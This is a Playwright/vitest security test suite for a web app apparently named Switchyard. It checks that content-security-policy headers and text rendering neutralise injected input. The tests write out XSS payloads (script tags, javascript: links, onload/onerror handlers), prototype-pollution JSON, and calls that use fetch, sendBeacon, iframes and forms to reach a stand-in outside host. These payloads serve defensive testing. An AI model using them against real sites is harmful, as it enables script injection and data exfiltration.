/** Text from anywhere is shown as it stands, never run; and the policy alone would have stopped it. */
import { mkdtempSync, rmSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { BrowserContext, Page } from 'playwright';
import { afterAll, expect, test } from 'vitest';
import { DEFAULTS_V1, TINY_SIZE } from '../../src/config/defaults.ts';
import { applyChange } from '../../src/config/edit.ts';
import { encodeLink } from '../../src/config/permalink.ts';
import { writeSafetensors } from '../../src/data/safetensors.ts';
import { attackAt, useElsewhere, watch } from '../support/attack.ts';
import { copiedLink, exportedLosses, goToRoom, takeSteps } from '../support/pageRun.ts';
import { type Host, useSite } from '../support/site.ts';

declare global {
  interface Window {
    /** How the page was painted first. */
    firstPaint?: { background: string; isMounted: boolean };
  }
}

const site = useSite();
const elsewhere = useElsewhere();
const folder = mkdtempSync(join(tmpdir(), 'switchyard-safety-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const HOSTS: readonly Host[] = ['start', 'plain'];
const TINY = `#${encodeLink(applyChange(DEFAULTS_V1, { ...TINY_SIZE, 'tokenizer.kind': 'bytes' }))}`;

const attack = (place: string) => attackAt(place, elsewhere());

/** Waits until the attack of a place stands on the page as the text that it is. */
async function standsAsText(page: Page, place: string): Promise<void> {
  await page.getByText(`img src=//${elsewhere().host}/${place}`).first().waitFor();
}

interface GivenFile {
  name: string;
  content: string | Uint8Array;
}

/** Gives files to the file dialog that `press` opens. */
async function give(page: Page, press: () => Promise<void>, ...files: GivenFile[]) {
  const chooser = page.waitForEvent('filechooser');
  await press();
  await (await chooser).setFiles(
    files.map(({ name, content }) => ({
      name,
      mimeType: 'text/plain',
      buffer: Buffer.from(content),
    })),
  );
}

function fileMenu(page: Page, entry: string) {
  return async () => {
    await page.getByRole('button', { name: 'Files' }).click();
    await page.getByRole('menuitem', { name: entry }).click();
  };
}

/** What `press` gives to be saved. */
async function saved(page: Page, press: () => Promise<void>, as: string): Promise<string> {
  const download = page.waitForEvent('download');
  await press();
  const path = join(folder, as);
  await (await download).saveAs(path);
  return path;
}

async function addCurves(page: Page, ...files: GivenFile[]): Promise<void> {
  await give(page, () => page.getByRole('button', { name: 'Add CSV…' }).click(), ...files);
}

/** Settings of the page's look that someone wrote into the storage. */
async function storeLook(context: BrowserContext, text: string): Promise<void> {
  await context.addInitScript((text) => {
    if (!location.protocol.startsWith('http')) return;
    const look = { theme: text, smoothing: text, xUnit: text, collapsed: [text], [text]: text };
    const json = JSON.stringify(look).replace(
      '{',
      `{"__proto__":{"theme":${JSON.stringify(text)}},`,
    );
    localStorage.setItem('switchyard.view', json);
  }, text);
}

/** A kept run of an earlier version that someone wrote into the browser's database: the next visit takes it over. */
async function storeRun(page: Page, name: string, link: string): Promise<void> {
  await page.evaluate(
    async ([name, link]) => {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open('switchyard');
        opening.onupgradeneeded = () => opening.result.createObjectStore('keptRuns');
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      // Keys with spaces are those of arrays; a slash parts attributes as well.
      const id = name.replaceAll(' ', '/');
      const run = {
        ...{ id, name, link, color: `1);background:url(${name}` },
        ...{ isVisible: true, tokensPerStep: null, firstStep: 1, validation: [] },
        columns: { ce: new Float32Array([3, 2, 1]), ['__proto__']: name },
      };
      const write = database.transaction('keptRuns', 'readwrite');
      write.objectStore('keptRuns').put({ keptAt: 1, run }, id);
      await new Promise((resolve) => write.addEventListener('complete', resolve));
      database.close();
    },
    [name, link] as const,
  );
}

async function dismissDialog(page: Page): Promise<void> {
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
}

/** Puts attacks into all that is read before a model runs. */
async function attackByFiles(page: Page): Promise<void> {
  await addCurves(page, {
    name: `${attack('csv')}.csv`,
    content: `step,loss,"${attack('column').replaceAll('"', '""')}"\n1,3,\n2,2,\n`,
  });
  await page.getByRole('button', { name: `Delete ${attack('csv')}` }).waitFor();
  const name = page.getByRole('textbox', { name: `Name of ${attack('csv')}` });
  await name.fill(attack('new'));
  await name.press('Enter');
  await page.getByRole('button', { name: `Delete ${attack('new')}` }).waitFor();
  await addCurves(page, { name: `${attack('refused')}.csv`, content: `${attack('head')},x\n1,2` });
  await standsAsText(page, 'refused');

  const json = JSON.stringify({ version: 1, batch: { B: attack('json') }, [attack('key')]: 1 });
  const content = json.replace('{', `{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}},`);
  await give(page, fileMenu(page, 'Open a file…'), { name: `${attack('file')}.json`, content });
  const told = new RegExp(`img src=//${elsewhere().host}/(json|key|file) `);
  await page.getByText(told).first().waitFor();
  if (await page.getByRole('dialog').isVisible()) await dismissDialog(page);

  const bytes = writeSafetensors(
    new Map([[attack('tensor'), { dtype: 'F32', shape: [1], data: new Float32Array(1) }]]),
    { format: attack('format'), experiment: json, step: '1', dataCursor: '2' },
  );
  await give(page, fileMenu(page, 'Load safetensors…'), {
    name: `${attack('checkpoint')}.safetensors`,
    content: bytes,
  });
  await standsAsText(page, 'format');
}

/** Trains on a text that is an attack, and asks the model to go on with one. */
async function attackByText(page: Page): Promise<void> {
  await page.evaluate((hash) => {
    location.hash = hash;
  }, TINY);
  const group = page.locator('details', { has: page.locator('summary', { hasText: 'Text' }) });
  if ((await group.getAttribute('open')) === null) await group.locator('summary').click();
  const choose = page.locator('.own-text').getByRole('button', { name: 'Choose a file…' });
  const content = `${attack('text')}<script>attacked=1</script>\n`.repeat(500);
  await give(page, () => choose.click(), { name: `${attack('own')}.txt`, content });
  await standsAsText(page, 'own');
  await takeSteps(page, 2);
  await page.getByLabel('Prompt').fill(attack('prompt'));
  await page.getByRole('button', { name: 'Sample', exact: true }).click();
  await standsAsText(page, 'prompt');
}

test.each(HOSTS)('nothing that is read is run, from the host "%s"', async (host) => {
  const link = `#v=1&D=${attack('link')}&gate=<script>attacked=1</script>&${attack('name')}=1`;
  const hash = `${link}&__proto__=1&constructor=1&e=5:lr=${attack('event')}`;
  const page = await site().open(hash, (context) => storeLook(context, attack('look')), { host });
  const { expectCalm } = watch(page, elsewhere());
  await standsAsText(page, 'link');
  await dismissDialog(page);
  await storeRun(page, attack('kept'), `javascript:attacked=1//${attack('href')}`);
  await page.reload();
  await standsAsText(page, 'link');
  await dismissDialog(page);
  await page.getByRole('button', { name: `Delete ${attack('kept')}` }).waitFor();
  // A link that cannot be read is no link.
  expect(await page.getByRole('link', { name: 'settings' }).count()).toBe(0);
  await attackByFiles(page);
  await attackByText(page);
  await expectCalm();
  expect(await page.evaluate(() => Reflect.get({}, 'x') ?? Reflect.get({}, 'theme'))).toBe(
    undefined,
  );

  // All that the page does works under the policy: clipboard, files, the solver's worker.
  const copied = await copiedLink(page);
  expect(copied).toContain(`${site().addressOf(host)}#c=`);
  expect(copied).toMatch(/#c=[A-Za-z]{8}&v=1&/);
  expect(await exportedLosses(page)).not.toHaveLength(0);
  await saved(page, fileMenu(page, 'Save as JSON'), 'experiment.json');
  const checkpoint = await saved(page, fileMenu(page, 'Save as safetensors'), 'model');
  expect((await readFile(checkpoint)).length).toBeGreaterThan(10_000);
  await goToRoom(page, 'Cost');
  const solver = page.getByRole('region', { name: 'Resource solver' });
  await solver.getByRole('button', { name: 'Solve', exact: true }).click();
  await solver
    .getByText(/K = \d+ of \d+ slots/)
    .first()
    .waitFor();
  await expectCalm();
});

test.each(HOSTS)('exported pictures hold names as they stand, from the host "%s"', async (host) => {
  const page = await site().open(TINY, undefined, { host });
  const { expectCalm } = watch(page, elsewhere());
  const names = [attack('svg'), 'a<b & c', 'x&ltimes', ']]><script>attacked=1</script>'];
  const curve = 'step,loss\n1,3\n2,2\n3,1\n';
  await addCurves(page, ...names.map((name) => ({ name: `${name}.csv`, content: curve })));
  await page.getByRole('button', { name: `Delete ${names.at(-1)}` }).waitFor();
  const save = (format: string) => async () => {
    await page.getByRole('button', { name: 'Export Loss' }).click();
    await page.getByRole('menuitem', { name: format }).click();
  };
  const png = await readFile(await saved(page, save('PNG'), 'loss.png'));
  expect(png.subarray(1, 4).toString()).toBe('PNG');
  const svg = await saved(page, save('SVG'), 'loss.svg');
  await expectCalm();

  // As a document of its own, where no policy is.
  await page.goto(pathToFileURL(svg).href);
  const found = await page.evaluate(() => {
    const elements = [...document.querySelectorAll('*')];
    return {
      root: document.documentElement.localName,
      bad: elements
        .filter(
          ({ localName, attributes }) =>
            /^(parsererror|script|image|img|foreignObject|a|use)$/.test(localName) ||
            [...attributes].some(({ name }) => name.startsWith('on')),
        )
        .map(({ outerHTML }) => outerHTML),
      texts: [...document.querySelectorAll('text')].map(({ textContent }) => textContent),
    };
  });
  expect(found).toMatchObject({ root: 'svg', bad: [] });
  for (const name of names) expect(found.texts).toContainEqual(expect.stringContaining(name));
  await expectCalm();
});

/** Ways to run text or to reach another origin, once an attacker's text is in the page. */
function attackInside(host: string): Promise<string[]> {
  const stopped: string[] = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    stopped.push(event.effectiveDirective);
  });
  const put = (markup: string) => document.body.insertAdjacentHTML('beforeend', markup);
  const attempt = (act: () => unknown) => {
    try {
      act();
    } catch {
      // What is refused at once is told as a violation too.
    }
  };
  put('<svg onload="attacked=1"></svg><img src="data:," onerror="attacked=2">');
  put(`<img src="//${host}/image"><link rel="stylesheet" href="//${host}/style">`);
  put(`<iframe srcdoc="<script>parent.attacked=3</script>"></iframe>`);
  put(`<iframe src="//${host}/frame"></iframe><object data="//${host}/object"></object>`);
  put(`<form action="//${host}/form"><input name="x"></form><a href="javascript:attacked=4">x</a>`);
  put(`<base href="//${host}/"><i style="background:url(//${host}/css)">x</i>`);
  for (const text of ['attacked=5', '']) {
    const script = document.createElement('script');
    if (text === '') script.src = `//${host}/script`;
    script.textContent = text;
    document.body.append(script);
  }
  document.querySelector<HTMLFormElement>('form:last-of-type[action]')?.submit();
  document.querySelector<HTMLAnchorElement>('a[href^="javascript:"]')?.click();
  fetch(`//${host}/fetch`).catch(() => undefined);
  navigator.sendBeacon(`//${host}/beacon`, 'x');
  attempt(() => new WebSocket(`ws://${host}/socket`));
  attempt(() => new Worker('data:text/javascript,'));
  attempt(() => new Worker(URL.createObjectURL(new Blob(['fetch(1)']))));
  // In a task of the page's own: what a debugger evaluates is let through.
  setTimeout(() => attempt(() => new Function('attacked=6')()));
  setTimeout(() => attempt(() => setTimeout('attacked=7')));
  return new Promise((resolve) => setTimeout(() => resolve([...new Set(stopped)].sort()), 1500));
}

test.each(HOSTS)('the policy alone stops what is put into the page, from "%s"', async (host) => {
  const page = await site().open(TINY, undefined, { host, provokes: true });
  const before = elsewhere().asked.length;
  const stopped = await page.evaluate(attackInside, elsewhere().host);
  expect(stopped).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'object-src',
    'script-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
    'worker-src',
  ]);
  expect(await page.evaluate(() => window.attacked)).toBeUndefined();
  expect(elsewhere().asked.slice(before)).toEqual([]);
});

test('the header of npm start binds the workers as well', async () => {
  const page = await site().open(TINY, undefined, { host: 'start', provokes: true });
  await page.waitForFunction(() => document.querySelector('.adapter .tag') !== null);
  const worker = page.workers().find((started) => started.url().includes('trainer.worker'));
  if (worker === undefined) throw new Error('the page has no trainer');
  const before = elsewhere().asked.length;
  const outcome = await worker.evaluate(async (host) => {
    const ran = { value: false };
    Object.assign(globalThis, { ran });
    setTimeout(() => {
      try {
        new Function('ran.value = true')();
      } catch {
        // As it should be.
      }
    });
    const answers = await Promise.allSettled([fetch(`http://${host}/worker`), fetch('index.html')]);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [ran.value, ...answers.map(({ status }) => status)];
  }, elsewhere().host);
  // A fetch at home is answered, whatever the answer is.
  expect(outcome).toEqual([false, 'rejected', 'fulfilled']);
  expect(elsewhere().asked.slice(before)).toEqual([]);
});

test('npm start sends the headers with every answer, missing files too', async () => {
  const address = site().addressOf('start');
  for (const path of ['', 'theme.js', 'corpora/index.json', 'nowhere']) {
    const { headers, status } = await fetch(address + path);
    expect(status, path).toBe(path === 'nowhere' ? 404 : 200);
    expect(headers.get('content-security-policy'), path).toMatch(
      /^default-src 'self'; script-src 'self';/,
    );
    expect(headers.get('x-content-type-options'), path).toBe('nosniff');
  }
});

test.each([
  { stored: '{"theme":"dark"}', system: 'light', first: 'dark' },
  { stored: '{"theme":"light"}', system: 'dark', first: 'light' },
  { stored: 'null', system: 'dark', first: 'dark' },
  { stored: '{not JSON', system: 'dark', first: 'dark' },
] as const)('with $stored kept and a $system system the first paint is $first', async (row) => {
  const prepare = async (context: BrowserContext) => {
    await context.addInitScript((stored) => {
      if (!location.protocol.startsWith('http')) return;
      localStorage.setItem('switchyard.view', stored);
      new PerformanceObserver(() => {
        const { background } = getComputedStyle(document.body);
        const isMounted = document.querySelector('#root')?.childElementCount !== 0;
        window.firstPaint ??= { background, isMounted };
      }).observe({ type: 'paint', buffered: true });
    }, row.stored);
    // The page's own code waits: what is painted before is the markup's doing.
    await context.route(/assets\/index.*\.js$/, async (route) => {
      await context.pages()[0]?.waitForFunction(() => window.firstPaint !== undefined);
      await route.continue();
    });
  };
  const page = await site().open('', prepare, { colorScheme: row.system });
  await page.getByRole('heading', { name: 'Switchyard' }).waitFor();
  const { firstPaint, last } = await page.evaluate(() => ({
    firstPaint: window.firstPaint,
    last: getComputedStyle(document.body).background,
  }));
  expect(firstPaint).toEqual({ isMounted: false, background: last });
  const isDark = /rgb\(\d\d?, \d\d?, \d\d?\)/.test(last);
  expect(isDark ? 'dark' : 'light').toBe(row.first);
});
